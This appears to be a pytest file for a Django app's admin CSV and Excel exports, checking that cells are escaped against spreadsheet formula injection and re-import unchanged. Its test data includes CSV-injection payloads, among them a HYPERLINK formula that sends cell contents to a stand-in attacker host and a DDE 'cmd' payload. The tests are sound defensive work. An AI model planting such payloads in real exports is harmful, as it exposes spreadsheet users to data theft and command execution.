"""No exported cell runs as a formula in a spreadsheet, and an export still imports as it was."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from agreements.models import FundingLine, Obligation

pytestmark = pytest.mark.django_db

# What a spreadsheet reads as the start of a formula (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = [
    '=HYPERLINK("http://angriber.example/?d="&A1,"Klik her")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=allerede med apostrof",
]


@pytest.fixture
def hostile(obligation):
    obligation.action = HOSTILE[0]
    obligation.phrase = "medio 2017"  # as the agreement's text says, so the import takes it
    obligation.save()
    return obligation


def cells_of_csv(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def cells_of_xlsx(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def assert_no_formula(values):
    for value in values:
        assert not (isinstance(value, str) and value.startswith(FORMULA_STARTS)), value


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_written_as_text_and_read_back_as_it_was(text):
    from common.spreadsheets import from_spreadsheet, spreadsheet_safe

    assert not spreadsheet_safe(text).startswith(FORMULA_STARTS)
    assert from_spreadsheet(spreadsheet_safe(text)) == text
    assert spreadsheet_safe("Oplæg primo 2017") == "Oplæg primo 2017"
    assert spreadsheet_safe(-5) == -5


def test_the_admins_csv_and_excel_exports_hold_no_formula(client, superuser, hostile):
    client.force_login(superuser)
    url = reverse("admin:agreements_obligation_changelist")
    selected = {"_selected_action": [hostile.pk]}
    as_csv = client.post(url, {"action": "export_csv", **selected}).content
    as_xlsx = client.post(url, {"action": "export_xlsx", **selected}).content
    assert_no_formula(cells_of_csv(as_csv))
    cells = cells_of_xlsx(as_xlsx)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert_no_formula(c.value for c in cells)
    assert "'" + HOSTILE[0] in cells_of_csv(as_csv)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_with_a_hostile_text_imports_unchanged(tmp_path, hostile, fmt):
    path = tmp_path / f"forpligtelser.{fmt}"
    call_command("export_obligations", "--format", fmt, "--output", str(path), stderr=io.StringIO())
    out = io.StringIO()
    call_command("import_obligations", str(path), stdout=out)
    assert "0 updated" in out.getvalue()
    assert Obligation.objects.get(pk=hostile.pk).action == HOSTILE[0]


def test_the_funding_workbook_holds_no_formula(client, superuser, agreement):
    FundingLine.objects.create(
        agreement=agreement,
        table="Tabel 1",
        row='=HYPERLINK("http://x")',
        recipient="Regionerne",
        recipient_group=FundingLine.RecipientGroup.REGIONS,
        channel=FundingLine.Channel.POOL,
        year=2017,
        amount=5,
    )
    client.force_login(superuser)
    response = client.get(reverse("overview:funding", args=[agreement.slug]) + "?format=xlsx")
    cells = cells_of_xlsx(response.content)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert_no_formula(c.value for c in cells)
    assert '\'=HYPERLINK("http://x")' in [c.value for c in cells]
